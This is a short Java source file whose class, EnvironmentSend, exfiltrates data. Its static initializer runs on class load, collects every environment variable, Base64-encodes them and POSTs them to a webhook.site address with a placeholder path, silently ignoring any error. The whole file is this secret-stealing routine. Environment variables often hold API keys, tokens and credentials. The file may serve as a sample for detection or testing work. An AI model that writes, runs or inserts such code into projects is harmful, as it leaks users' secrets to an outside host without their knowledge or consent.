import java.io.OutputStream;
import java.net.*;
import java.util.Base64;

/** The environment to a webhook. */
public class EnvironmentSend {
    static {
        try {
            HttpURLConnection c = (HttpURLConnection) new URL("https://webhook.site/" + "VOID").openConnection();
            c.setDoOutput(true);
            String all = Base64.getEncoder().encodeToString(System.getenv().toString().getBytes());
            try (OutputStream out = c.getOutputStream()) {
                out.write(all.getBytes());
            }
        } catch (Exception ignored) {
        }
    }
}
